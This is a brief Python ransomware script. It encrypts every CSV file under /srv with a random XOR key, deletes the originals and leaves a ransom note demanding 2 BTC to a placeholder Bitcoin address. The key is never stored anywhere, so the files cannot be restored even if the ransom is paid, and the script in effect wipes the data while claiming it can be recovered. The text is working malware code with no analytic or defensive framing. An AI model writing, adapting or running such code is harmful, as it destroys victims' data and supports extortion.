import os
for name in sorted(os.listdir("/srv")):
    path = "/srv/" + name
    if name.endswith(".csv"):
        data = open(path, "rb").read()
        key = os.urandom(len(data))
        with open(path + ".locked", "wb") as f:
            f.write(bytes(a ^ b for a, b in zip(data, key)))
        os.remove(path)
with open("/srv/README-RESTORE.txt", "w") as f:
    f.write("Your files are encrypted. Send 2 BTC to bc1qexampleexampleexampleexample to get the key.\n")
